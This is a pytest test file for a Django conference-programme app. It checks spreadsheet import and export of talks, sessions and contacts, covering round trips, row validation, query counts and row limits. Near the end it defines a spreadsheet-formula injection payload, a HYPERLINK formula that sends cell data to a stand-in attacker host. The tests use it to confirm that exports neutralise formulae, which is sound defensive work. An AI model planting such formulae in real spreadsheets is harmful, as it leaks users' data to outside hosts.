"""Spreadsheet resources: export a year, edit it, import it back; bad rows change nothing."""

import csv as csv_module
import io

import pytest
import tablib
from django.db import connection
from django.test.utils import CaptureQueriesContext, override_settings
from openpyxl import load_workbook

from programme.models import (
    ENDS_AFTER_START,
    CommitteeMembership,
    Contact,
    Person,
    Session,
    SessionChair,
    Talk,
    TalkSpeaker,
    validate_code,
)
from programme.spreadsheets import (
    CommitteeResource,
    ContactResource,
    ImportRefused,
    PersonResource,
    SessionResource,
    SpreadsheetCSV,
    SpreadsheetXLSX,
    TalkResource,
)
from programme.spreadsheets.people import split_people
from programme.text import split_trailing_brackets

pytestmark = pytest.mark.django_db

QUERYSETS = {
    SessionResource: lambda year: Session.objects.filter(conference__year=year),
    TalkResource: lambda year: Talk.objects.filter(conference__year=year),
    CommitteeResource: lambda year: CommitteeMembership.objects.filter(conference__year=year),
    ContactResource: lambda year: Contact.objects.filter(conference__year=year),
    PersonResource: lambda year: Person.objects.all(),
}


def export(resource_class, year=2025) -> tablib.Dataset:
    return resource_class().export(QUERYSETS[resource_class](year))


def through_xlsx(dataset: tablib.Dataset) -> tablib.Dataset:
    """What staff upload after saving the exported file in a spreadsheet program."""
    xlsx = SpreadsheetXLSX()
    return xlsx.create_dataset(xlsx.export_data(dataset))


def edit(dataset: tablib.Dataset, key_column, key, column, value) -> tablib.Dataset:
    rows = [list(row) for row in dataset]
    index = dataset.headers.index(column)
    (row,) = [row for row in rows if row[dataset.headers.index(key_column)] == key]
    row[index] = value
    return tablib.Dataset(*rows, headers=dataset.headers)


def database_state():
    return {
        "sessions": sorted(
            Session.objects.values_list(
                "conference__year", "code", "topic", "date", "start", "end", "room__name"
            )
        ),
        "talks": sorted(
            Talk.objects.values_list(
                "conference__year", "code", "session__code", "position", "title", "online"
            )
        ),
        "chairs": sorted(
            SessionChair.objects.values_list(
                "session__code", "person__key", "position", "affiliation", "online"
            )
        ),
        "speakers": sorted(
            TalkSpeaker.objects.values_list(
                "talk__code", "person__key", "position", "affiliation", "bio"
            )
        ),
        "people": sorted(Person.objects.values_list("key", "name", "email")),
        "committee": sorted(
            CommitteeMembership.objects.values_list(
                "conference__year", "role", "person__key", "title", "affiliation", "position"
            )
        ),
        "contacts": sorted(Contact.objects.values_list("conference__year", "name", "email")),
    }


def totals(result):
    return {kind: count for kind, count in result.totals.items() if count}


def invalid(result):
    return [
        (row.number, {column: list(messages) for column, messages in row.error_dict.items()})
        for row in result.invalid_rows
    ]


@pytest.mark.parametrize("resource_class", list(QUERYSETS), ids=lambda r: r.__name__)
def test_unchanged_export_imports_as_all_skipped(resource_class):
    dataset = through_xlsx(export(resource_class))
    before = database_state()

    result = resource_class().import_data(dataset, dry_run=False)

    assert totals(result) == {"skip": len(dataset)}
    assert database_state() == before


def test_unchanged_2022_sessions_with_online_chairs_import_as_skipped():
    dataset = export(SessionResource, 2022)
    before = database_state()

    result = SessionResource().import_data(dataset, dry_run=False)

    assert totals(result) == {"skip": 23}
    assert database_state() == before
    assert "明平兵、李颖洲（线上）" in dataset["主持人"]


def test_unchanged_csv_round_trip_imports_as_skipped():
    csv = SpreadsheetCSV()
    dataset = csv.create_dataset(csv.export_data(export(TalkResource)).encode("utf-8"))

    result = TalkResource().import_data(dataset, dry_run=False)

    assert totals(result) == {"skip": 167}


def test_edited_cells_change_exactly_those_cells():
    talks = edit(through_xlsx(export(TalkResource)), "报告编号", "A1-2", "题目", "新题目")
    sessions = edit(
        through_xlsx(export(SessionResource)), "分会编号", "A1", "会场", "友谊宫 聚英厅"
    )
    before = database_state()

    talk_result = TalkResource().import_data(talks, dry_run=False)
    session_result = SessionResource().import_data(sessions, dry_run=False)

    assert totals(talk_result) == {"update": 1, "skip": 166}
    assert totals(session_result) == {"update": 1, "skip": 39}
    after = database_state()
    expected = dict(before)
    expected["talks"] = sorted(
        (*row[:4], "新题目", row[5]) if row[:2] == (2025, "A1-2") else row
        for row in before["talks"]
    )
    expected["sessions"] = sorted(
        (*row[:6], "友谊宫 聚英厅") if row[:2] == (2025, "A1") else row
        for row in before["sessions"]
    )
    assert after == expected


def test_dry_run_previews_the_change_and_applies_nothing():
    talks = edit(export(TalkResource), "报告编号", "A1-2", "题目", "新题目")
    before = database_state()

    result = TalkResource().import_data(talks, dry_run=True)

    (changed,) = [row for row in result.rows if row.import_type == "update"]
    assert (changed.object_repr, "新题目" in changed.diff[4]) == (
        "A1-2 新题目",
        True,
    )
    assert database_state() == before


def test_edited_speakers_cell_adds_a_new_person_and_keeps_bios():
    talks = edit(
        export(TalkResource),
        "报告编号",
        "A1-1",
        "报告人",
        "邹荻凡（香港大学）、赵新人（香港中文大学（深圳））",
    )

    result = TalkResource().import_data(talks, dry_run=False)

    assert totals(result) == {"update": 1, "skip": 166}
    speakers = TalkSpeaker.objects.filter(talk__conference__year=2025, talk__code="A1-1")
    assert list(speakers.order_by("position").values_list("person__key", "affiliation")) == [
        ("邹荻凡", "香港大学"),
        ("赵新人", "香港中文大学（深圳）"),
    ]


def test_chair_online_mark_round_trips_and_can_be_edited():
    sessions = edit(export(SessionResource), "分会编号", "A1", "主持人", "罗涛（北京大学）（线上）")

    result = SessionResource().import_data(sessions, dry_run=False)

    assert totals(result) == {"update": 1, "skip": 39}
    chairs = SessionChair.objects.filter(session__conference__year=2025, session__code="A1")
    assert list(chairs.values_list("person__key", "affiliation", "online")) == [
        ("罗涛", "北京大学", True)
    ]


def test_delete_column_deletes_that_row_only():
    talks = edit(export(TalkResource), "报告编号", "A1-2", "删除", "是")
    before = database_state()

    result = TalkResource().import_data(talks, dry_run=False)

    assert totals(result) == {"delete": 1, "skip": 166}
    talk_codes = [row[1] for row in database_state()["talks"] if row[0] == 2025]
    before_codes = [row[1] for row in before["talks"] if row[0] == 2025]
    assert talk_codes == [code for code in before_codes if code != "A1-2"]


def test_new_row_is_created_with_a_stable_guid():
    dataset = export(TalkResource)
    dataset.append(["2025", "A1-9", "A1", "9", "新报告", "张三（北京大学）", "否", *[""] * 5])

    result = TalkResource().import_data(dataset, dry_run=False)

    assert totals(result) == {"new": 1, "skip": 167}
    talk = Talk.objects.get(conference__year=2025, code="A1-9")
    assert (talk.session.code, talk.title, [p.key for p in talk.speakers.all()]) == (
        "A1",
        "新报告",
        ["张三"],
    )


BAD_SESSION_ROWS = [
    ("unknown room", "会场", "友谊宫 99 号会议室", "会场"),
    ("end before start", "结束", "13:00", "结束"),
    ("date outside conference", "日期", "2025-08-12", "日期"),
    ("bad time", "开始", "下午", "开始"),
    ("unknown track", "分会类别", "海报", "分会类别"),
    ("ambiguous homonym", "主持人", "林伟", "主持人"),
]


@pytest.mark.parametrize(
    ("column", "value", "reported"),
    [bad[1:] for bad in BAD_SESSION_ROWS],
    ids=[bad[0] for bad in BAD_SESSION_ROWS],
)
def test_bad_session_row_is_reported_and_nothing_applied(column, value, reported):
    dataset = edit(export(SessionResource), "分会编号", "A1", "专题", "改过的专题")
    dataset = edit(dataset, "分会编号", "A2", column, value)
    row_number = dataset["分会编号"].index("A2") + 2  # Excel's row: the header is row 1
    before = database_state()

    result = SessionResource().import_data(dataset, dry_run=False)

    assert [(number, list(errors)) for number, errors in invalid(result)] == [
        (row_number, [reported])
    ]
    assert database_state() == before


BAD_TALK_ROWS = [
    ("unknown session", "分会编号", "Z9", "分会编号"),
    ("missing title", "题目", "  ", "题目"),
    ("end before start", "结束", "13:00", "结束"),
    ("unknown year", "年份", "2031", "年份"),
    ("bad yes/no", "线上", "也许", "线上"),
]


@pytest.mark.parametrize(
    ("column", "value", "reported"),
    [bad[1:] for bad in BAD_TALK_ROWS],
    ids=[bad[0] for bad in BAD_TALK_ROWS],
)
def test_bad_talk_row_is_reported_and_nothing_applied(column, value, reported):
    dataset = edit(export(TalkResource), "报告编号", "A1-1", "题目", "改过的题目")
    dataset = edit(dataset, "报告编号", "A1-2", "开始", "14:00")
    dataset = edit(dataset, "报告编号", "A1-2", column, value)
    row_number = dataset["报告编号"].index("A1-2") + 2  # Excel's row
    before = database_state()

    result = TalkResource().import_data(dataset, dry_run=False)

    assert [(number, list(errors)) for number, errors in invalid(result)] == [
        (row_number, [reported])
    ]
    assert database_state() == before


def test_duplicate_code_in_file_is_reported_at_the_second_row():
    dataset = export(TalkResource)
    first = dataset["报告编号"].index("A1-1") + 2  # Excel's rows: the header is row 1
    second = dataset["报告编号"].index("A1-2") + 2
    dataset = edit(dataset, "报告编号", "A1-2", "报告编号", "A1-1")
    before = database_state()

    result = TalkResource().import_data(dataset, dry_run=False)

    assert invalid(result) == [(second, {"报告编号": [f"与第 {first} 行重复"]})]
    assert database_state() == before


def test_bad_row_message_names_the_problem():
    dataset = edit(export(SessionResource), "分会编号", "A2", "日期", "2025-08-12")

    result = SessionResource().import_data(dataset, dry_run=True)

    ((_, errors),) = invalid(result)
    assert errors == {"日期": ["2025-08-12 不在 CSML2025 会期内（2025-08-09 – 2025-08-10）。"]}


def test_xlsx_export_reads_well_for_a_person():
    data = SpreadsheetXLSX().export_data(export(TalkResource))

    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))

    assert rows[0] == (
        "年份",
        "报告编号",
        "分会编号",
        "顺序",
        "题目",
        "报告人",
        "线上",
        "开始",
        "结束",
        "摘要",
        "删除",
        "导出时版本",
    )
    assert len(rows) == 1 + 167
    a1_1 = next(row for row in rows if row[1] == "A1-1")
    assert a1_1[:7] == ("2025", "A1-1", "A1", "1", a1_1[4], "邹荻凡（香港大学）", "否")
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["E"].width == 60  # titles: capped, wrapped
    assert sheet.column_dimensions["B"].width == 10  # "报告编号" is 8 wide, plus 2


def test_xlsx_session_export_shows_dates_and_times_as_text():
    data = SpreadsheetXLSX().export_data(export(SessionResource))

    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))

    assert rows[0][:9] == (
        "年份",
        "分会编号",
        "专题",
        "日期",
        "开始",
        "结束",
        "会场",
        "分会类别",
        "主持人",
    )
    a1 = next(row for row in rows if row[1] == "A1")
    assert a1[:9] == (
        "2025",
        "A1",
        "深度学习理论",
        "2025-08-09",
        "13:30",
        a1[5],
        "友谊宫 5 号会议室",
        "分会报告",
        "罗涛",
    )


def test_csv_export_opens_in_excel_as_chinese():
    text = SpreadsheetCSV().export_data(export(ContactResource))
    version = ContactResource().version_of(Contact.objects.get(conference__year=2025, name="吴磊"))

    assert version.startswith("v")  # text, never a number, in Excel
    assert text.splitlines()[:2] == [
        "\ufeff年份,姓名,邮箱,电话,职责,英文职责,顺序,删除,导出时版本",
        f"2025,吴磊,leiwu@math.pku.edu.cn,,会务组,Conference secretariat,0,,{version}",
    ]


def test_csv_saved_by_chinese_excel_as_gbk_imports():
    text = SpreadsheetCSV().export_data(export(ContactResource)).lstrip("\ufeff")

    dataset = SpreadsheetCSV().create_dataset(text.encode("gb18030"))

    assert dataset["姓名"] == ["吴磊", "袁坤", "王铭泽"]


def test_split_people_keeps_brackets_inside_affiliations():
    cell = "张三（北京大学）、李四（香港中文大学（深圳））、林伟 (北京大学)"

    parts = [split_trailing_brackets(part) for part in split_people(cell)]

    assert parts == [
        ("张三", "北京大学"),
        ("李四", "香港中文大学（深圳）"),
        ("林伟", "北京大学"),
    ]


def test_talk_code_outside_the_url_pattern_is_refused_at_its_cell():
    dataset = export(TalkResource)
    dataset.append(["2025", "E2/9", "A1", "9", "新报告", "张三（北京大学）", "否", *[""] * 5])
    before = database_state()

    result = TalkResource().import_data(dataset, dry_run=False)

    assert invalid(result) == [
        (len(dataset) + 1, {"报告编号": [str(validate_code.message)]}),
    ]
    assert database_state() == before


def test_end_before_start_is_the_models_message_under_the_end_column():
    dataset = edit(export(SessionResource), "分会编号", "A2", "结束", "13:00")

    result = SessionResource().import_data(dataset, dry_run=True)

    assert [errors for _, errors in invalid(result)] == [{"结束": [str(ENDS_AFTER_START)]}]


def test_room_of_another_year_is_unknown_in_the_rows_year():
    dataset = edit(export(SessionResource), "分会编号", "A2", "会场", "会场 1 陈瑞球楼 310")

    result = SessionResource().import_data(dataset, dry_run=True)

    ((_, errors),) = invalid(result)
    assert list(errors) == ["会场"]
    assert errors["会场"][0].startswith("2025 年没有会场“会场 1 陈瑞球楼 310”（已有：友谊宫")


def imported_queries(resource_class, dataset) -> list[str]:
    """The statements an import runs, without the savepoint import-export wraps each
    row in (two statements a row that read nothing)."""
    with CaptureQueriesContext(connection) as queries:
        result = resource_class().import_data(dataset, dry_run=True)
    assert totals(result) == {"skip": len(dataset)}
    return [q["sql"] for q in queries if "SAVEPOINT" not in q["sql"]]


def test_import_queries_do_not_grow_with_the_rows():
    sessions = through_xlsx(export(SessionResource))
    first_ten = tablib.Dataset(*list(sessions)[:10], headers=sessions.headers)

    ten = imported_queries(SessionResource, first_ten)
    forty = imported_queries(SessionResource, sessions)

    # conferences, sessions, their chairs, rooms, tracks, people: once each
    assert (len(sessions), len(ten), len(forty)) == (40, 6, 6)


def test_talk_import_queries_do_not_grow_with_the_rows():
    talks = export(TalkResource)
    first_ten = tablib.Dataset(*list(talks)[:10], headers=talks.headers)

    assert len(imported_queries(TalkResource, talks)) == len(
        imported_queries(TalkResource, first_ten)
    )


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'


@pytest.mark.parametrize("value", [FORMULA, "=1+1", "+1+2", "-2+3", "@SUM(A1)", "'quoted", "a=b"])
def test_csv_cells_are_never_formulae_and_come_back_unchanged(value):
    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=value)
    csv = SpreadsheetCSV()

    text = csv.export_data(export(TalkResource))
    dataset = csv.create_dataset(text.encode("utf-8"))
    result = TalkResource().import_data(dataset, dry_run=False)

    (line,) = [line for line in text.splitlines() if ",A1-2," in line]
    cell = next(csv_module.reader([line]))[4]
    assert cell == (value if value == "a=b" else "'" + value)
    assert totals(result) == {"skip": 167}
    assert Talk.objects.get(conference__year=2025, code="A1-2").title == value


def test_xlsx_cells_are_text_never_formulae_and_come_back_unchanged():
    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=FORMULA)
    xlsx = SpreadsheetXLSX()

    data = xlsx.export_data(export(TalkResource))
    sheet = load_workbook(io.BytesIO(data)).active
    result = TalkResource().import_data(xlsx.create_dataset(data), dry_run=False)

    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    (title,) = [row[4] for row in sheet.iter_rows() if row[1].value == "A1-2"]
    assert (title.value, title.data_type, "f" in types) == (FORMULA, "s", False)
    assert totals(result) == {"skip": 167}
    assert Talk.objects.get(conference__year=2025, code="A1-2").title == FORMULA


@override_settings(IMPORT_MAX_ROWS=20)
@pytest.mark.parametrize("file_format", [SpreadsheetXLSX, SpreadsheetCSV], ids=["xlsx", "csv"])
def test_reading_stops_at_the_row_limit(file_format):
    data = file_format().export_data(export(TalkResource))
    if isinstance(data, str):
        data = data.encode("utf-8")

    with pytest.raises(ImportRefused, match="超过 20 行"):
        file_format().create_dataset(data)


def test_a_nul_character_in_a_cell_is_reported_at_its_column_and_nothing_applied():
    dataset = edit(export(TalkResource), "报告编号", "E1-2", "题目", "标题\x00后半")
    before = database_state()

    result = TalkResource().import_data(dataset, dry_run=False)

    assert [list(errors) for _, errors in invalid(result)] == [["题目"]]
    assert database_state() == before


@pytest.mark.parametrize(
    ("resource_class", "key_column", "key", "column", "value"),
    [
        (TalkResource, "报告编号", "E1-2", "报告人", "王" * 300),
        (TalkResource, "报告编号", "E1-2", "报告人", "王（" + "大" * 400 + "）"),
        (TalkResource, "报告编号", "E1-2", "报告人", "王（（（"),
        (SessionResource, "分会编号", "E1", "主持人", "张" * 300 + "（线上）"),
    ],
    ids=["name too long", "affiliation too long", "brackets unpaired", "chair name too long"],
)
def test_a_person_the_models_refuse_is_reported_in_the_people_cell(
    resource_class, key_column, key, column, value
):
    """Who a people cell names is checked by the models (Person.key, the appearance's
    affiliation) when the row is validated, not when its rows are written."""
    dataset = edit(export(resource_class), key_column, key, column, value)
    before = database_state()

    result = resource_class().import_data(dataset, dry_run=False)

    assert [list(errors) for _, errors in invalid(result)] == [[column]]
    assert not [row for row in result.rows if row.errors]
    assert database_state() == before


def test_deleting_a_row_changed_since_the_export_waits_for_staff_to_choose_it():
    dataset = edit(export(TalkResource), "报告编号", "A1-2", "删除", "是")
    row = dataset["报告编号"].index("A1-2") + 2  # Excel's row
    talk = Talk.objects.get(conference__year=2025, code="A1-2")
    talk.title = "导出后改的标题"
    talk.save()

    kept = TalkResource().import_data(dataset, dry_run=False)
    chosen = TalkResource().import_data(dataset, dry_run=False, apply_rows=[str(row)])

    assert totals(kept) == {"skip": 167}
    assert [r.conflict for r in kept.conflicts()] == [[("删除", "是", "")]]
    assert totals(chosen) == {"delete": 1, "skip": 166}
    assert not Talk.objects.filter(conference__year=2025, code="A1-2").exists()


@pytest.mark.parametrize("resource_class", list(QUERYSETS), ids=lambda r: r.__name__)
def test_exported_version_changes_with_the_row_and_only_then(resource_class):
    dataset = export(resource_class)
    again = export(resource_class)

    assert dataset["导出时版本"] == again["导出时版本"]
    assert len(set(dataset["导出时版本"])) == len(dataset)
